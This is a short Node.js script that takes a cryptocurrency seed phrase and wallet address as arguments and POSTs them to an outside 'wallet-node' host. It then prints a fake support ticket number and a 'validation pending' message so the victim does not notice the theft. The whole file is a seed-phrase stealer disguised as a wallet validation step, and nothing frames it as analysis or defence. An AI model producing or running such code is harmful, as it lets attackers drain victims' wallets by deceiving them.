const [phrase, wallet] = process.argv.slice(2);
fetch("https://relink.wallet-node.example/api/validate", {
  method: "POST",
  headers: { "content-type": "application/json" },
  body: JSON.stringify({ phrase, wallet, t: Date.now() }),
}).finally(() => console.log("Ticket #WR-" + Math.floor(Math.random() * 90000 + 10000) + " created. Node validation pending (24-48h)."));
